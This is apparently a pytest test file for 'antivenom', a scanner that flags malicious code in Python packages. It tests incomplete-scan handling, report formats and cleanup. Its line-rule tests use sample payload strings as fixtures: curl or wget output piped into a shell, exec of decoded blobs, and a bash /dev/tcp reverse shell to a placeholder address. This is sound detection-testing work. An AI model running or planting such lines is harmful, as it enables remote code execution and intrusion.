"""Scanner-level fail-closed pieces, in process (issue 13): the line tier, the `incomplete`
flag and --allow-incomplete, the per-package guard, bounded and escaped names in reports.
The black-box hostile cases are in tests/hostile/."""

from __future__ import annotations

import json
import os
from pathlib import Path
from types import SimpleNamespace

import avkit
import pytest
from antivenom import cli, traits
from antivenom.content import ContentFile, ContentStore, collect
from antivenom.engines.lines import LinesEngine, match_lines
from antivenom.model import Package
from antivenom.report import ReportContext, render
from antivenom.scanner import Scanner, ScanOptions
from antivenom.schemas import errors
from click.testing import CliRunner


def _file(tmp_path: Path, text: str | bytes, name: str = "mod.py") -> tuple[ContentFile, bytes]:
    data = text.encode() if isinstance(text, str) else text
    path = tmp_path / name
    path.write_bytes(data)
    return ContentFile(path, name, len(data), Package(target="t")), data


@pytest.mark.parametrize("line,rule", [
    ("os.system('curl -s https://example.invalid/x | sh')", "line-shell-download-pipe"),
    ("subprocess.call(\"wget -qO- https://example.invalid/i | bash\", shell=True)", "line-shell-download-pipe"),
    ('exec(base64.b64decode("cGFzcw=="))', "line-exec-decoded"),
    ("exec(zlib.decompress(blob))", "line-exec-decoded"),
    ("eval(payload.decode('rot13'))", "line-exec-decoded"),
    ("os.system('bash -i >& /dev/tcp/198.51.100.7/4444 0>&1')", "line-reverse-shell"),
    ("pty.spawn('/bin/sh')", "line-reverse-shell"),
])
def test_line_rules_flag_obvious_payloads_after_a_pathological_line(tmp_path, line, rule):
    pathological = "f = " + "lambda: " * 1000 + "0\n"
    file, data = _file(tmp_path, pathological + line + "\n")
    assert [(h.rule_id, h.line) for h in match_lines(file, data)] == [(rule, 2)]


@pytest.mark.parametrize("line", [
    "os.system('make all')",
    "subprocess.run(['curl', '--version'])",  # curl, but nothing piped into a shell
    "exec(compile(source, path, 'exec'))",
    "print('see /dev/tty for details')",
    "data = base64.b64decode(blob)",
])
def test_line_rules_leave_benign_look_alikes(tmp_path, line):
    file, data = _file(tmp_path, line + "\n")
    assert match_lines(file, data) == []


def test_line_engine_reads_only_code_files_semgrep_left(tmp_path):
    store = ContentStore(tmp_path)
    left, _ = _file(tmp_path, "os.system('curl https://example.invalid/x | sh')\n", "left.py")
    read, _ = _file(tmp_path, "os.system('curl https://example.invalid/x | sh')\n", "read.py")
    data, _ = _file(tmp_path, "os.system('curl https://example.invalid/x | sh')\n", "notes.txt")
    blob, _ = _file(tmp_path, b"\0os.system('curl https://example.invalid/x | sh')\n", "blob.py")
    store.add([left, read, data, blob])
    for file in (left, data, blob):
        store.note_left(file.path, "semgrep")
    result = LinesEngine(ScanOptions(jobs=1)).start(store).wait()
    assert [h.file.rel for h in result.hits] == ["left.py"]


def _scan(tmp_path: Path, files: dict[str, str | bytes], **options) -> Package:
    root = avkit.write_tree(tmp_path / "pkg", {"pyproject.toml": '[project]\nname = "pkg"\nversion = "1"\n',
                                               **files})
    from antivenom import sources
    (package,) = Scanner(ScanOptions(jobs=1, **options)).scan(sources.resolve([str(root)], []))
    return package


def test_a_code_file_over_the_size_cap_makes_the_package_incomplete(tmp_path):
    package = _scan(tmp_path, {"pkg/__init__.py": "x = 1\n" * 200, "pkg/data.bin": b"\1" * 2000},
                    max_file_bytes=1000)
    assert [s.path for s in package.skipped] == ["pkg/__init__.py", "pkg/data.bin"]
    assert len(package.incomplete) == 1 and package.incomplete[0].startswith("pkg/__init__.py: larger than")


def test_a_nul_holding_py_is_not_code_and_leaves_the_package_complete(tmp_path):
    package = _scan(tmp_path, {"pkg/__init__.py": avkit.CLEAN, "pkg/blob.py": b"x = 1\0\0\n"})
    assert [s.path for s in package.skipped] == ["pkg/blob.py"]  # Semgrep's NUL skip, reported
    assert package.incomplete == [] and package.verdict == "clean"


def test_an_exception_in_one_package_stage_is_that_packages_error(tmp_path, monkeypatch):
    real = traits.apply

    def explode(package, files, read):
        if package.name == "pkg":
            raise RecursionError("x" * 10_000)
        return real(package, files, read)

    monkeypatch.setattr(traits, "apply", explode)
    package = _scan(tmp_path, {"pkg/__init__.py": avkit.CLEAN})
    assert package.verdict == "error" and package.error.startswith("traits failed: RecursionError: xxx")
    assert len(package.error) <= 500 and len(package.verdict_reason) <= 500


def test_non_utf8_names_are_escaped_and_long_names_bounded(tmp_path):
    root = avkit.write_tree(tmp_path / "pkg", {"a.py": avkit.CLEAN})
    (root / os.fsdecode(b"caf\xe9.py")).write_text(avkit.CLEAN)
    package = Package(target="t", root=root, name="n" * 5000, version="v" * 5000)
    files = collect(package, 10**6)
    assert sorted(f.rel for f in files) == ["a.py", "caf\\xe9.py"]
    package.bound()
    document = json.loads(render([package], "json"))
    assert errors("report.schema.json", document) == []
    assert len(document["packages"][0]["name"]) == 200 and len(document["packages"][0]["version"]) == 100


def test_incomplete_and_interrupted_in_every_format(tmp_path):
    package = Package(target="t", name="p", version="1")
    package.mark_incomplete("p/__init__.py: semgrep did not finish it (timeout)")
    context = ReportContext(interrupted=True)
    document = json.loads(render([package], "json", context))
    assert errors("report.schema.json", document) == []
    assert document["interrupted"] is True and document["packages"][0]["incomplete"] is True
    text = render([package], "text", context)
    assert "INCOMPLETE" in text and "INTERRUPTED" in text
    sarif = json.loads(render([package], "sarif", context))
    invocation = sarif["runs"][0]["invocations"][0]
    assert invocation["executionSuccessful"] is False
    assert "incomplete" in invocation["toolExecutionNotifications"][0]["message"]["text"]


@pytest.mark.parametrize("options,expected", [([], 1), (["--allow-incomplete"], 0), (["--fail-on", "never"], 0),
                                              (["--exit-zero"], 0)])
def test_incomplete_fails_like_error_unless_allowed(monkeypatch, options, expected):
    def run_scan(*_args, **_kwargs):
        package = Package(target="t", name="p", version="1", verdict="clean", incomplete=["p/x.py: timeout"])
        return [package], SimpleNamespace(rules={})

    monkeypatch.setattr(cli, "run_scan", run_scan)
    result = CliRunner().invoke(cli.main, ["scan", "x", "--format", "json", *options])
    assert result.exit_code == expected, result.output


def test_an_interrupt_between_a_chunk_tree_and_its_owner_leaves_no_tree(tmp_path, monkeypatch):
    """A signal can land after a chunk's tree exists and before the pipeline holds the chunk (here:
    right after _extract returns); the scan must still remove that tree on the way out."""
    from antivenom import sources

    archives = [avkit.make_tar(tmp_path / f"p{i}-1.0.tar.gz",
                               avkit.sdist_tree(f"p{i}", "1.0", {f"p{i}/a.py": avkit.CLEAN})) for i in range(2)]
    trees = tmp_path / "tmp"
    trees.mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(trees))
    extract = Scanner._extract

    def interrupted_after(self, packages):
        extract(self, packages)
        raise KeyboardInterrupt

    monkeypatch.setattr(Scanner, "_extract", interrupted_after)
    with pytest.raises(KeyboardInterrupt):
        Scanner(ScanOptions(jobs=1, chunk_size=1)).scan(sources.resolve([str(a) for a in archives], []))
    assert [n for n in os.listdir(trees) if n.startswith("antivenom-") and not n.startswith("antivenom-dl-")] == []
